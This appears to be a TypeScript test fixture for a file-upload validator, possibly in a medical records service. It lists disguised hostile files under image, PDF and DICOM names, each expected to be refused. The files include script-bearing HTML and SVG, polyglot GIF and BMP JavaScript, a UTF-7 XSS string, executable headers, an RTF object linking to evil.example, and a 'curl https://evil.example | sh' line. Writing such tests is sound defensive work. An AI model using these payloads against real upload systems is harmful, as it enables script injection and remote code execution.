import { drawing, element, page, refused, script, text, type HostileFile } from './script.ts';

const utf16 = (content: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(content, 'utf16le')]);

/** Files of unsupported types under supported names. */
export const foreignFiles = (): HostileFile[] => [
  refused('a web page as PNG', 'scan.png', text(page)),
  refused('a web page as JPEG', 'scan.jpg', text(`${page} `)),
  refused('a web page as PDF', 'brief.pdf', text(`\n${page}`)),
  refused('a web page as DICOM', 'ct.dcm', text(page.padEnd(200))),
  refused('a web page as ZIP', 'cd.zip', text(`${page}PK`)),
  refused('a web page under its own name', 'brief.html', text(`${page}\n`)),
  refused('a web page in UTF-16', 'brief.jpg', utf16(page)),
  refused('a web page in UTF-7', 'brief.png', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')),
  refused(
    'a web page behind a byte order mark',
    'bom.pdf',
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(page)]),
  ),
  refused('a web page in front of a PDF', 'vorne.pdf', text(`${element}%PDF-1.7\n`)),
  refused('a web page in front of a ZIP', 'vorne.zip', text(`${element}PK\x03\x04`)),
  refused('an SVG with script as JPEG', 'foto.jpg', text(drawing)),
  refused('an SVG with script as PNG', 'foto.png', text(`<?xml version="1.0"?>${drawing}`)),
  refused('an SVG under its own name', 'foto.svg', text(`${drawing}\n`)),
  refused(
    'XML with a style sheet that runs script',
    'befund.pdf',
    text(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x>${element}</x>`),
  ),
  refused('XHTML', 'befund.png', text(`<html xmlns="http://www.w3.org/1999/xhtml">${element}</html>`)),
  refused('a page in an archive (MHTML)', 'befund.jpg', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${page}`)),
  refused('JavaScript as picture', 'code.jpg', text(script)),
  refused('a GIF that is JavaScript, too', 'bild.png', text(`GIF89a/*\x01\x00\x01\x00*/=1;${script}`)),
  refused('a bitmap that is JavaScript, too', 'bild.jpg', text(`BM/*\x00\x00\x00*/=1;${script}`)),
  refused('a WebP picture', 'bild.jpeg', text(`RIFF\x24\x00\x00\x00WEBPVP8 ${element}`)),
  refused('a Flash film', 'film.jpg', text(`CWS\x0a${script}`)),
  refused('a Windows program', 'programm.dcm', text(`MZ\x90\x00${'\x00'.repeat(60)}${script}`)),
  refused('a Linux program', 'programm.pdf', text(`\x7fELF\x02\x01\x01${script}`)),
  refused('a shell script', 'start.pdf', text('#!/bin/sh\ncurl https://evil.example | sh\n')),
  refused('a Windows link', 'link.pdf', text('L\x00\x00\x00\x01\x14\x02\x00')),
  refused('an address file', 'adresse.pdf', text('[InternetShortcut]\nURL=javascript:alert(1)\n')),
  refused('a text with formats and objects', 'brief.rtf', text('{\\rtf1{\\object\\objautlink https://evil.example}}')),
];
